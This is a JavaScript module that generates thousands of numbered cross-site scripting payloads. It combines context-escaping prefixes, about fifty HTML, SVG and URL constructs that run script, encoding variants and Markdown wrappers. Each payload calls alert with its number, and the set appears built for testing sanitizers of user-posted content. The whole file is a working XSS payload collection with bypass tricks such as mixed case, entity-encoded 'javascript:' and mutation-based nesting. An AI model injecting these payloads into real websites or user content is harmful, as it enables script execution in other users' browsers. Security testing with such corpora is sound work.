// What an attacker would write where others read it: every way out of a place on a page, with every way to make a browser act,
// in several spellings. Made here, so that the same number always gives the same text; `alert(n)` carries its number.

const ways_out = [
    '', '">', '\'>', '"', '\'', '`', '</textarea>', '</title>', '</script>', '</style>', '</select>', '</noscript>', '</svg>', '</a>',
    '-->', ']]>', '\\">', '\\\'', '{{', '${', '&quot;>', '&#34;>', ';', '" x="', '=',
]

const acts = [
    act => `<script>${act}</script>`,
    act => `<ScRiPt >${act}</sCrIpT >`,
    act => `<script src=data:text/javascript,${act}></script>`,
    act => `<img src=x onerror=${act}>`,
    act => `<img/src="x"/onerror="${act}">`,
    act => `<IMG SRC=x OnErRoR=${act} `,
    act => `<svg onload=${act}>`,
    act => `<svg/onload=${act}//`,
    act => `<svg><script>${act}</script></svg>`,
    act => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    act => `<svg><a xlink:href="javascript:${act}"><text y=9>x</text></a></svg>`,
    act => `<svg><style><img src=x onerror=${act}></style></svg>`,
    act => `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
    act => `<math href="javascript:${act}">x</math>`,
    act => `<iframe src="javascript:${act}"></iframe>`,
    act => `<iframe srcdoc="&lt;script&gt;parent.${act}&lt;/script&gt;"></iframe>`,
    act => `<object data="javascript:${act}"></object>`,
    act => `<embed src="javascript:${act}">`,
    act => `<body onload=${act}>`,
    act => `<details open ontoggle=${act}>x`,
    act => `<video><source onerror=${act}></video>`,
    act => `<audio src=x onerror=${act}>`,
    act => `<input autofocus onfocus=${act}>`,
    act => `<textarea autofocus onfocus=${act}>`,
    act => `<select autofocus onfocus=${act}>`,
    act => `<p tabindex=1 autofocus onfocus=${act}>x`,
    act => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${act}>x`,
    act => `<a href="javascript:${act}">x</a>`,
    act => `<a href=" java\tscript:${act}">x</a>`,
    act => `<a href="&#106;avascript:${act}">x</a>`,
    act => `<form action="javascript:${act}"><button>x</button></form>`,
    act => `<button formaction="javascript:${act}">x</button>`,
    act => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
    act => `<link rel=stylesheet href="data:text/css,*{}" onload=${act}>`,
    act => `<base href="javascript:${act}//">`,
    act => `<template><script>${act}</script></template><script>${act}</script>`,
    act => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    act => `<!--<img src="--><img src=x onerror=${act}//">`,
    act => `<xmp><p title="</xmp><img src=x onerror=${act}>">`,
    act => `<plaintext onclick=${act}>`,
    act => `onmouseover=${act} x`,
    act => ` autofocus onfocus=${act} x=`,
    act => ` style=animation-name:k onanimationend=${act} `,
    act => `javascript:${act}`,
    act => `JaVaScRiPt:${act}//`,
    act => `javascript&colon;${act}`,
    act => `data:text/html,<script>${act}</script>`,
    act => `vbscript:${act}`,
    act => `%3Cscript%3E${act}%3C/script%3E`,
    act => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
]

const spellings = [
    text => text,
    text => text.replaceAll('alert(', 'window.alert('),
    text => text.replace('<', '&lt;'),
    text => text.replaceAll('<', '＜').replaceAll('>', '＞'),
]

/** How many there are: each of them different. */
export const payload_count = ways_out.length * acts.length * spellings.length

/** The n-th of them, 0 ≤ n < payload_count. */
export function payload(n) {
    const act = acts[n % acts.length]
    const way_out = ways_out[Math.floor(n / acts.length) % ways_out.length]
    const spelling = spellings[Math.floor(n / (acts.length * ways_out.length))]
    return spelling(way_out + act(`alert(${n})`))
}

const marks = [
    text => text,
    text => `[x](${text})`,
    text => `![${text}](${text})`,
    text => `<${text}>`,
    text => `[x]: ${text}\n\n[x]`,
    text => `[x][${text}] **${text}**`,
    text => `| a | ${text} |\n|---|---|\n| ${text} | b |`,
    text => `\`\`\`${text.replaceAll('`', '')}\n${text}\n\`\`\``,
    text => `- [ ] ${text}\n- [x] ${text}`,
    text => `> ${text}\n\n~~${text}~~`,
    text => `[x](https://a.example/ "${text}")`,
    text => `[x](https://a.example/${encodeURIComponent(text)})`,
]

/** The n-th of them in the marks that posts understand. */
export const marked_payload = n => marks[n % marks.length](payload(n))
